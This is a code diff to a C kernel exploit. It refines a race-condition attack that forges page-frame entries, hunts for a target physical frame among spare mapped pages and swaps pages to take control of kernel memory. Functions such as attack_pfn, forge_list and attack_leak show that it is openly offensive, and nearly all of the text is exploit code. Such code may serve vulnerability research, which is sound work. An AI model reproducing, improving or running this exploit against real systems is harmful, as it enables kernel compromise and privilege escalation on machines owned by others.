@@ -12,6 +12,7 @@ enum { STAGE_READY = 1, STAGE_UNMAP, STAGE_UNMAPPED, STAGE_SEEN, NR_STAGES };
 enum { NR_PAGES = 64, ROUNDS = 4000, SPARE_PAGES = 1024 };
 enum { STACK_LOOK = 1024, FRAME_BYTES = 16, WORD = sizeof(uint64_t), WORDS = BW_PAGE_SIZE / WORD };
 /* In the first word of a frame's entry. */
+#define FRAME_OWNER 0xfful
 #define FRAME_HIDDEN (1ul << 16)
 #define FRAME_REFS (~0ul << 32)
 #define ENTRY_FRAME 0xffffffffff000ul
@@ -98,21 +99,19 @@ static void exchange(char *page)
 	}
 }
 
-/* Looks for the sealed frame among new pages, which are free again afterwards. */
-static void find_target(void)
+/* Looks for the sealed frame among new pages, which are free again afterwards. For none of them the
+ * kernel takes a frame for itself: it might be that one. */
+static void find_target(char *spare)
 {
-	char *pages = mmap(NULL, SPARE_PAGES * BW_PAGE_SIZE, PROT_READ | PROT_WRITE,
-			   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
-
 	for (size_t i = 0; i < SPARE_PAGES && !is_changed; i++) {
-		char *page = pages + i * BW_PAGE_SIZE;
+		char *page = spare + i * BW_PAGE_SIZE;
 
 		*(volatile char *)page = 0;
 		if (attack_pfn(page) == target.pfn) {
 			exchange(page);
 		}
 	}
-	munmap(pages, SPARE_PAGES * BW_PAGE_SIZE);
+	madvise(spare, SPARE_PAGES * BW_PAGE_SIZE, MADV_DONTNEED);
 }
 
 static void prepare(void)
@@ -128,9 +127,12 @@ static void prepare(void)
 
 static void unmapper(void *unused)
 {
+	char *spare = attack_pages(SPARE_PAGES * BW_PAGE_SIZE);
 	unsigned int nr = 0;
 
 	(void)unused;
+	/* their page tables stay */
+	madvise(spare, SPARE_PAGES * BW_PAGE_SIZE, MADV_DONTNEED);
 	attack_leak(&of_unmapper);
 	while (!is_over) {
 		prepare();
@@ -140,7 +142,7 @@ static void unmapper(void *unused)
 		tell(nr, STAGE_UNMAPPED);
 		await(nr, STAGE_SEEN);
 		if (nr_stores > 0) {
-			find_target();
+			find_target(spare);
 		}
 		nr++;
 		is_over = is_changed || nr == ROUNDS;
@@ -186,17 +188,32 @@ static void forge_list(uint64_t place)
 	nr_stores++;
 }
 
+/* It is the pool's, or says what was forged: it is not among the free ones that were looked at in
+ * vain, nor anything else by now. */
+static bool is_untaken(void)
+{
+	uint64_t owner = load(frame_entry(target.pfn)) & FRAME_OWNER;
+
+	return owner == (before.notes.entry[0] & FRAME_OWNER) ||
+	       owner == (round.last.entry[0] & FRAME_OWNER);
+}
+
 /* As long as the other one is on its way. */
 static void attack_list(unsigned int nr, uint64_t place)
 {
+	bool goes_on = is_untaken();
+
 	nr_stores = 0;
-	forge_entry(round.last.entry[0] & FRAME_REFS);
+	if (goes_on) {
+		forge_entry(round.last.entry[0] & FRAME_REFS);
+	}
 	tell(nr, STAGE_UNMAP);
-	while (stage < nr * NR_STAGES + STAGE_UNMAPPED) {
+	while (goes_on && stage < nr * NR_STAGES + STAGE_UNMAPPED) {
 		if (load(place) == round.pair) {
 			forge_list(place);
 		}
 	}
+	attack_await(&stage, nr * NR_STAGES + STAGE_UNMAPPED, AWAIT_SPIN);
 }
 
 static void save(void)
